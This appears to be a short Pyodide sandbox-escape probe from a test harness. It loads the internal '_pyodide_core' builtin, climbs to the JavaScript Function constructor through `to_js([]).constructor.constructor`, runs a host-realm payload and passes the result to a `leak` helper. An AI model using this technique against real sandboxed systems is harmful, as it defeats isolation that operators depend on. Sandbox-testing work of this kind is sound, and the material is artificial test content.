import _imp
import importlib.machinery

spec = importlib.machinery.BuiltinImporter.find_spec("_pyodide_core")
witness()
core = _imp.create_builtin(spec)
leak(core.to_js([]).constructor.constructor(trial["readRealm"])())
